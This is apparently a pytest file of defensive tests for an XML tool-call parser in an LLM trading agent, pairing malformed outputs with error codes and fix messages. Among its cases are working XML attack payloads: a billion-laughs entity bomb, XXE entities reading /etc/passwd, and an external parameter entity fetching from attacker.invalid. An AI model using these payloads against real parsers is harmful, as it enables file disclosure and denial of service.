"""A named corpus of malformed LLM outputs, each with the exact error code and the fix it names.

Every case goes through the whole executor (parse, resolve, validate, run, render) as an agent's
answer does, and its envelope is checked with lxml: however broken the input, the model gets back a
well-formed ``<tool_result>`` whose ``<message>`` says how to fix the call.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

import pytest

from app.domain.errors import ErrorCode
from tests.unit.protocol.envelope import parse_envelope
from tests.unit.protocol.sample_tools import OPERATOR, make_executor, run

BOOK = "<get_order_book><symbol>BTC/USDT</symbol></get_order_book>"
PASSWD_MARKER = "root:"


@dataclass(frozen=True)
class Case:
    name: str
    response: str | bytes
    code: ErrorCode
    fix: str  # a fragment of the message that tells the model what to do instead


def _order(**params: str) -> str:
    body = "".join(f"<{key}>{value}</{key}>" for key, value in params.items())
    return f"<create_order>{body}</create_order>"


def _memory(content: str, path: str = "notes/a.md") -> str:
    return (
        f"<write_agent_memory_file><file_path>{path}</file_path>"
        f"<content_base64>{content}</content_base64></write_agent_memory_file>"
    )


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n<get_order_book><symbol>&lol9;</symbol></get_order_book>"
)
XXE = (
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<get_order_book><symbol>&xxe;</symbol></get_order_book>"
)
XXE_INSIDE_CALL = (
    '<get_order_book><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<symbol>&xxe;</symbol></get_order_book>"
)
PARAMETER_ENTITY = (
    '<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>' + BOOK
)

CORPUS = [
    Case(
        "call wrapped in a tool_call element",
        f"<tool_call>{BOOK}</tool_call>",
        ErrorCode.UNKNOWN_TOOL,
        "write the call itself with nothing around it: <get_order_book>",
    ),
    Case(
        "JSON arguments inside the tag",
        '<get_order_book>{"symbol": "BTC/USDT"}</get_order_book>',
        ErrorCode.INVALID_PARAMETER,
        "not JSON. Put every value inside its parameter's element: "
        "<get_order_book><symbol>BTC/USDT</symbol></get_order_book>",
    ),
    Case(
        "duplicate parameter, the first left empty",
        "<get_order_book><symbol>BTC/USDT</symbol><limit></limit><limit>5</limit>"
        "</get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "<limit> is given twice",
    ),
    Case(
        "map entry with an empty name",
        "<update_agent_settings><settings><setting name=\"\">x</setting></settings>"
        "</update_agent_settings>",
        ErrorCode.INVALID_PARAMETER,
        '<setting name="...">',
    ),
    Case(
        "unescaped ampersand in value",
        _order(symbol="BTC/USDT", side="BUY", quantity="1 & 2"),
        ErrorCode.PARSE_ERROR,
        "&amp;",
    ),
    Case(
        "unescaped less-than in value",
        _order(symbol="BTC/USDT", side="BUY", quantity="< 2"),
        ErrorCode.PARSE_ERROR,
        "&lt;",
    ),
    Case(
        "undefined html entity",
        "<get_order_book><symbol>BTC&nbsp;USDT</symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "&amp;",
    ),
    Case(
        "prose before the call, with markup in it",
        f"Sure, <b>now</b> the book. {BOOK}",
        ErrorCode.PARSE_ERROR,
        "<thinking>...</thinking> first",
    ),
    Case(
        "prose after the call, with a tag in it",
        f"{BOOK}\nThat should show the <b>depth</b>.",
        ErrorCode.MULTIPLE_TOOL_CALLS,
        "exactly one call per response",
    ),
    Case(
        "a second call in the prose after the call",
        f"{BOOK}\nThen I will place it: " + _order(symbol="BTC/USDT", side="BUY", quantity="1"),
        ErrorCode.MULTIPLE_TOOL_CALLS,
        "exactly one call per response",
    ),
    Case(
        "a call only inside the thinking block",
        f"<thinking>I will send {BOOK}</thinking>",
        ErrorCode.PARSE_ERROR,
        "inside the thinking block, where calls are not run",
    ),
    Case(
        "a call inside the thinking block and prose after it",
        f"<thinking>I will send {BOOK}</thinking>\nChecking the book now.",
        ErrorCode.PARSE_ERROR,
        "write the call after </thinking>",
    ),
    Case(
        "a free-text value holding a tag",
        "<write_note><key>plan</key><content>Next: <create_order> at 42000</content>"
        "</write_note>",
        ErrorCode.PARSE_ERROR,
        "write that '<' as &lt;",
    ),
    Case(
        "a free-text value holding its own closing tag",
        "<write_note><key>plan</key><content>end it with </content> please</content>"
        "</write_note>",
        ErrorCode.PARSE_ERROR,
        "its own closing tag </content>",
    ),
    Case(
        "a free-text value closing the call early",
        "<write_note><key>plan</key><content>done</write_note><create_order><symbol>BTC/USDT"
        "</symbol><side>BUY</side><quantity>1</quantity></create_order></content></write_note>",
        ErrorCode.PARSE_ERROR,
        "write that '<' as &lt;",
    ),
    Case(
        "JSON inside a tool_call wrapper",
        '<tool_call>{"name": "get_order_book", "arguments": {"symbol": "BTC/USDT"}}</tool_call>',
        ErrorCode.PARSE_ERROR,
        "not as JSON",
    ),
    Case("two tool calls", BOOK + BOOK, ErrorCode.MULTIPLE_TOOL_CALLS, "exactly one call"),
    Case(
        "two calls, the second broken",
        BOOK + "<get_order_book><symbol>A & B</symbol>",
        ErrorCode.MULTIPLE_TOOL_CALLS,
        "exactly one call",
    ),
    Case(
        "unknown tool",
        "<get_orderbook><symbol>BTC/USDT</symbol></get_orderbook>",
        ErrorCode.UNKNOWN_TOOL,
        "Did you mean get_order_book",
    ),
    Case(
        "tool name in the wrong case",
        "<Get_Order_Book><symbol>BTC/USDT</symbol></Get_Order_Book>",
        ErrorCode.UNKNOWN_TOOL,
        "get_order_book",
    ),
    Case(
        "missing required parameter",
        "<get_order_book><limit>5</limit></get_order_book>",
        ErrorCode.MISSING_PARAMETER,
        "Add <symbol>BTC/USDT</symbol>",
    ),
    Case(
        "self-closing call without its parameters",
        "<get_order_book/>",
        ErrorCode.MISSING_PARAMETER,
        "needs <symbol>",
    ),
    Case(
        "extra parameter",
        "<get_order_book><symbol>BTC/USDT</symbol><depth>5</depth></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "Its parameters are: limit, symbol",
    ),
    Case(
        "integer given as words",
        "<get_order_book><symbol>BTC/USDT</symbol><limit>ten</limit></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "must be a whole number",
    ),
    Case(
        "integer given as a fraction",
        "<get_order_book><symbol>BTC/USDT</symbol><limit>2.5</limit></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "must be a whole number",
    ),
    Case(
        "integer out of range",
        "<get_order_book><symbol>BTC/USDT</symbol><limit>500</limit></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "must be at most 100",
    ),
    Case(
        "huge integer",
        "<get_order_book><symbol>BTC/USDT</symbol><limit>"
        + "9" * 400
        + "</limit></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "far too large",
    ),
    Case(
        "long beyond 64 bits",
        "<get_historical_klines><symbol>BTC/USDT</symbol><interval>1h</interval>"
        "<end_time_ms>9999999999999999999</end_time_ms></get_historical_klines>",
        ErrorCode.INVALID_PARAMETER,
        "does not fit in 64 bits",
    ),
    Case(
        "decimal given as words",
        _order(symbol="BTC/USDT", side="BUY", quantity="a lot"),
        ErrorCode.INVALID_PARAMETER,
        "must be a decimal number such as 0.5",
    ),
    Case(
        "decimal NaN",
        _order(symbol="BTC/USDT", side="BUY", quantity="NaN"),
        ErrorCode.INVALID_PARAMETER,
        "must be a decimal number such as 0.5",
    ),
    Case(
        "decimal Infinity",
        _order(symbol="BTC/USDT", side="BUY", quantity="-Infinity"),
        ErrorCode.INVALID_PARAMETER,
        "must be a decimal number such as 0.5",
    ),
    Case(
        "decimal with an exponent",
        _order(symbol="BTC/USDT", side="BUY", quantity="1e400"),
        ErrorCode.INVALID_PARAMETER,
        "no exponent",
    ),
    Case(
        "decimal of absurd magnitude",
        _order(symbol="BTC/USDT", side="BUY", quantity="1" + "0" * 40),
        ErrorCode.INVALID_PARAMETER,
        "out of any sensible range",
    ),
    Case(
        "decimal in Arabic-Indic digits",
        _order(symbol="BTC/USDT", side="BUY", quantity="٥٠٠"),
        ErrorCode.INVALID_PARAMETER,
        "ASCII digits 0-9",
    ),
    Case(
        "decimal with an underscore separator",
        _order(symbol="BTC/USDT", side="BUY", quantity="1_000"),
        ErrorCode.INVALID_PARAMETER,
        "no exponent, underscores",
    ),
    Case(
        "decimal below its minimum",
        _order(symbol="BTC/USDT", side="BUY", quantity="-1"),
        ErrorCode.INVALID_PARAMETER,
        "must be at least 0.00000001, got -1",
    ),
    Case(
        "boolean given as words",
        _order(symbol="BTC/USDT", side="BUY", quantity="1", reduce_only="maybe"),
        ErrorCode.INVALID_PARAMETER,
        "must be true or false",
    ),
    Case(
        "enum value not allowed",
        _order(symbol="BTC/USDT", side="LONG", quantity="1"),
        ErrorCode.INVALID_PARAMETER,
        "must be one of BUY, SELL",
    ),
    Case(
        "unclosed tag",
        "<get_order_book><symbol>BTC/USDT</symbol>",
        ErrorCode.PARSE_ERROR,
        "Add </get_order_book>",
    ),
    Case(
        "mismatched closing tag",
        "<get_order_book><symbol>BTC/USDT</sym></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "Close it with </symbol>",
    ),
    Case(
        "stray closing tag", "</get_order_book>", ErrorCode.PARSE_ERROR, "no matching opening tag"
    ),
    Case(
        "attributes instead of child elements",
        '<get_order_book symbol="BTC/USDT" limit="5"/>',
        ErrorCode.INVALID_PARAMETER,
        "<get_order_book><symbol>BTC/USDT</symbol><limit>5</limit>",
    ),
    Case(
        "attribute on a parameter",
        '<get_order_book><symbol value="BTC/USDT"/></get_order_book>',
        ErrorCode.INVALID_PARAMETER,
        "must not carry attributes",
    ),
    Case(
        "nested element inside a scalar",
        "<get_order_book><symbol><name>BTC/USDT</name></symbol></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "must be plain text",
    ),
    Case(
        "text loose inside the call",
        "<get_order_book>BTC/USDT<limit>5</limit></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "Put every value inside its parameter's element",
    ),
    Case(
        "billion laughs entity bomb",
        BILLION_LAUGHS,
        ErrorCode.PARSE_ERROR,
        "entities are never expanded",
    ),
    Case("external entity", XXE, ErrorCode.PARSE_ERROR, "entities are never expanded"),
    Case(
        "external entity declared inside the call",
        XXE_INSIDE_CALL,
        ErrorCode.PARSE_ERROR,
        "entities are never expanded",
    ),
    Case(
        "external parameter entity",
        PARAMETER_ENTITY,
        ErrorCode.PARSE_ERROR,
        "entities are never expanded",
    ),
    Case(
        "ten thousand levels of nesting",
        "<get_order_book>" + "<symbol>" * 10_000 + "</symbol>" * 10_000 + "</get_order_book>",
        ErrorCode.PARSE_ERROR,
        "nested more than 4 levels deep",
    ),
    Case(
        "five levels of nesting",
        "<get_order_book><symbol><a><b><c>x</c></b></a></symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "nested more than 4 levels",
    ),
    Case(
        "a call with 150,000 elements",
        "<get_current_ticker_info><symbols>"
        + "<symbol/>" * 150_000
        + "</symbols></get_current_ticker_info>",
        ErrorCode.PARSE_ERROR,
        "more than 5,000 elements",
    ),
    Case(
        "control character in a value",
        "<get_order_book><symbol>BTC\x07USDT</symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "control character (U+0007)",
    ),
    Case(
        "reference to a NUL character",
        "<get_order_book><symbol>&#0;</symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "A character XML cannot carry",
    ),
    Case(
        "invalid UTF-8 bytes",
        b"<get_order_book><symbol>BTC\xff\xfe</symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "not valid UTF-8 (byte 0xff at offset 27)",
    ),
    Case(
        "lone surrogate",
        "<get_order_book><symbol>BTC\ud800</symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "lone surrogate",
    ),
    Case(
        "empty response", "  \n\t ", ErrorCode.PARSE_ERROR, "one tool call or a plain text answer"
    ),
    Case(
        "thinking without a call",
        "<thinking>RSI is 28; I should buy.</thinking>",
        ErrorCode.PARSE_ERROR,
        "Follow the thinking with exactly one tool call",
    ),
    Case(
        "unclosed thinking",
        f"<thinking>Let me check the book {BOOK}",
        ErrorCode.PARSE_ERROR,
        "End it with </thinking>",
    ),
    Case(
        "thinking after the call",
        f"{BOOK}<thinking>done</thinking>",
        ErrorCode.PARSE_ERROR,
        "<thinking> block must be the very first thing",
    ),
    Case(
        "thinking in the middle of prose",
        "I think </thinking> so.",
        ErrorCode.PARSE_ERROR,
        "must come first",
    ),
    Case(
        "namespace prefix",
        "<k:get_order_book><symbol>BTC/USDT</symbol></k:get_order_book>",
        ErrorCode.PARSE_ERROR,
        "namespaces are not used",
    ),
    Case(
        "default namespace",
        '<get_order_book xmlns="urn:x"><symbol>BTC/USDT</symbol></get_order_book>',
        ErrorCode.PARSE_ERROR,
        "namespaces are not used",
    ),
    Case(
        "duplicate parameter",
        "<get_order_book><symbol>BTC/USDT</symbol><symbol>ETH/USDT</symbol></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "given twice; give it once",
    ),
    Case(
        "list parameter given as text",
        "<get_current_ticker_info><symbols>BTC/USDT, ETH/USDT</symbols></get_current_ticker_info>",
        ErrorCode.INVALID_PARAMETER,
        "<symbols><symbol>...</symbol></symbols>",
    ),
    Case(
        "list with a foreign item",
        "<get_current_ticker_info><symbols><ticker>BTC/USDT</ticker></symbols>"
        "</get_current_ticker_info>",
        ErrorCode.INVALID_PARAMETER,
        "may only contain <symbol>",
    ),
    Case(
        "empty required list",
        "<get_current_ticker_info><symbols/></get_current_ticker_info>",
        ErrorCode.INVALID_PARAMETER,
        "needs at least one <symbol>",
    ),
    Case(
        "list longer than allowed",
        "<get_current_ticker_info><symbols>"
        + "<symbol>BTC/USDT</symbol>" * 6
        + "</symbols></get_current_ticker_info>",
        ErrorCode.INVALID_PARAMETER,
        "at most 5",
    ),
    Case(
        "map entry without a name",
        "<update_agent_settings><settings><setting>high</setting></settings>"
        "</update_agent_settings>",
        ErrorCode.INVALID_PARAMETER,
        '<setting name="...">',
    ),
    Case(
        "map given as text",
        "<update_agent_settings><settings>risk=high</settings></update_agent_settings>",
        ErrorCode.INVALID_PARAMETER,
        "not text",
    ),
    Case(
        "map with a repeated name",
        '<update_agent_settings><settings><setting name="a">1</setting><setting name="a">2'
        "</setting></settings></update_agent_settings>",
        ErrorCode.INVALID_PARAMETER,
        'names "a" twice',
    ),
    Case(
        "invalid base64",
        _memory("this is not base64!"),
        ErrorCode.INVALID_PARAMETER,
        "standard alphabet",
    ),
    Case("base64 with bad padding", _memory("YWJ"), ErrorCode.INVALID_PARAMETER, "'=' padding"),
    Case(
        "invalid JSON",
        "<create_new_agent_instance><agent_name_label>A</agent_name_label>"
        "<initial_config_json>{symbol: BTC}</initial_config_json></create_new_agent_instance>",
        ErrorCode.INVALID_PARAMETER,
        "is not valid JSON",
    ),
    Case(
        "JSON that is not an object",
        "<create_new_agent_instance><agent_name_label>A</agent_name_label>"
        "<initial_config_json>[1, 2]</initial_config_json></create_new_agent_instance>",
        ErrorCode.INVALID_PARAMETER,
        "must be a JSON object",
    ),
    Case(
        "JSON nested absurdly deep",
        "<create_new_agent_instance><agent_name_label>A</agent_name_label>"
        "<initial_config_json>" + "[" * 100_000 + "</initial_config_json>"
        "</create_new_agent_instance>",
        ErrorCode.INVALID_PARAMETER,
        "nested too deeply",
    ),
    Case(
        "empty required string",
        "<get_order_book><symbol>  </symbol></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "must not be empty",
    ),
    Case(
        "string longer than allowed",
        "<get_order_book><symbol>" + "X" * 41 + "</symbol></get_order_book>",
        ErrorCode.INVALID_PARAMETER,
        "too long: 41 characters > 40",
    ),
    Case(
        "tool result echoed back",
        '<tool_result tool_name="get_order_book"><status>success</status><data/></tool_result>',
        ErrorCode.UNKNOWN_TOOL,
        "never write one yourself",
    ),
    Case(
        "JSON-style function call",
        '{"name": "get_order_book", "arguments": {"symbol": "BTC"}}',
        ErrorCode.PARSE_ERROR,
        "written in XML, not as JSON",
    ),
    Case(
        "python-style function call",
        'get_order_book(symbol="BTC/USDT")',
        ErrorCode.PARSE_ERROR,
        "written in XML, not as JSON or a function call",
    ),
    Case(
        "ten megabytes of input",
        "<get_order_book><symbol>" + "A" * 10_000_000 + "</symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "limit is 2,000,000",
    ),
    Case("ten megabytes of bytes", b"x" * 10_000_000, ErrorCode.PARSE_ERROR, "limit is 2,000,000"),
    Case(
        "attribute value without quotes",
        "<get_order_book><symbol x=1>B</symbol></get_order_book>",
        ErrorCode.PARSE_ERROR,
        "not well-formed",
    ),
]


def test_corpus_is_large_and_names_are_unique() -> None:
    assert len(CORPUS) >= 30
    assert len({case.name for case in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("case", CORPUS, ids=[case.name for case in CORPUS])
def test_malformed_output_gets_its_exact_error_code_and_a_fix(case: Case) -> None:
    executor, recorder, world = make_executor()
    result = run(executor.execute_text(OPERATOR, case.response))
    assert result is not None
    assert (result.status, result.error_code) == ("error", case.code), result.message
    assert case.fix in result.message
    root = parse_envelope(result.xml)
    assert root.findtext("error_details/error_code") == case.code.value
    assert root.findtext("error_details/message") == result.message.replace("\r", "\n")
    assert len(result.xml) < 5_000  # the error never echoes a huge input back
    assert [entry.status for entry in recorder.entries] == ["error"]
    assert world.orders == [] and world.files == {} and world.agents == {}


@pytest.mark.parametrize("response", [BILLION_LAUGHS, XXE, XXE_INSIDE_CALL, PARAMETER_ENTITY])
def test_entities_are_never_expanded_anywhere_in_the_result(response: str) -> None:
    executor, recorder, _ = make_executor()
    result = run(executor.execute_text(OPERATOR, response))
    assert result is not None
    assert "lollol" not in result.xml
    assert PASSWD_MARKER not in result.xml
    assert recorder.entries[0].params == {}


def test_hardened_parser_leaves_entities_unresolved_even_past_the_refusal() -> None:
    """Defence in depth: feed the DTD straight to the parser object the protocol uses."""
    from lxml import etree

    from app.tools.protocol.call import _parser

    root = etree.fromstring(XXE.encode(), _parser())
    assert PASSWD_MARKER not in etree.tostring(root).decode()
    assert "".join(root.itertext()) == "&xxe;"  # left as an unresolved reference
    bomb = BILLION_LAUGHS.split("\n", 1)[1].encode()
    try:
        root = etree.fromstring(bomb, _parser())
    except etree.XMLSyntaxError as exc:  # libxml2's amplification guard may refuse it outright
        assert "amplification" in str(exc)
    else:
        assert "lollol" not in etree.tostring(root).decode()


def test_ten_megabytes_is_refused_before_it_is_parsed() -> None:
    """Refused by its size alone (how fast: tests/benchmarks/bench_parser_limits.py)."""
    executor, _, _ = make_executor()
    huge = "<get_order_book><symbol>" + "A" * 10_000_000 + "</symbol></get_order_book>"
    result = run(executor.execute_text(OPERATOR, huge))
    assert result is not None and result.error_code is ErrorCode.PARSE_ERROR


def test_a_large_but_legal_memory_write_succeeds() -> None:
    executor, _, world = make_executor()
    content = bytes(range(256)) * 4_000  # 1 MB of binary, 1.4 MB as base64
    encoded = base64.b64encode(content).decode()
    result = run(executor.execute_text(OPERATOR, _memory(encoded, "big.bin")))
    assert result is not None and result.status == "success", result.message
    assert world.files["big.bin"] == content


TOLERATED = [
    ("xml declaration", '<?xml version="1.0" encoding="UTF-8"?>\n' + BOOK),
    (
        "comments around and inside the call",
        "<!-- plan: depth -->\n<get_order_book><!-- which --><symbol>BTC/USDT</symbol>"
        "</get_order_book>",
    ),
    ("byte order mark", "\ufeff" + BOOK),
    (
        "whitespace everywhere",
        "\n\n  <get_order_book >\n  <symbol> BTC/USDT </symbol>\n</get_order_book >  ",
    ),
    ("thinking tag with a space", "<thinking >look at depth</thinking >\n" + BOOK),
    (
        "empty optional number means the default",
        "<get_order_book><symbol>BTC/USDT</symbol><limit></limit></get_order_book>",
    ),
    ("utf-8 bytes", BOOK.encode()),
    ("escaped value", "<get_order_book><symbol>BTC&#47;USDT</symbol></get_order_book>"),
    ("markdown fences", f"```xml\n{BOOK}\n```"),
    ("markdown fences inside prose", f"Here you go:\n```xml\n{BOOK}\n```\nDone."),
    ("prose before the call", f"Sure, let me look at the book. {BOOK}"),
    ("prose after the call", f"{BOOK}\nThat should show the depth."),
    ("prose with an ampersand after the call", f"{BOOK} Bids & asks coming up."),
    ("CDATA section", "<get_order_book><symbol><![CDATA[BTC/USDT]]></symbol></get_order_book>"),
    ("self-closing empty optional parameter",
     "<get_order_book><symbol>BTC/USDT</symbol><limit/></get_order_book>"),
]


@pytest.mark.parametrize(("name", "response"), TOLERATED, ids=[n for n, _ in TOLERATED])
def test_harmless_variations_still_run_the_call(name: str, response: str | bytes) -> None:
    executor, _, _ = make_executor()
    result = run(executor.execute_text(OPERATOR, response))
    assert result is not None and result.status == "success", result.message
    root = parse_envelope(result.xml)
    book = root.find("data/order_book_data")
    assert book.get("symbol") == "BTC/USDT"
    assert len(book.findall("bids/level")) == 10
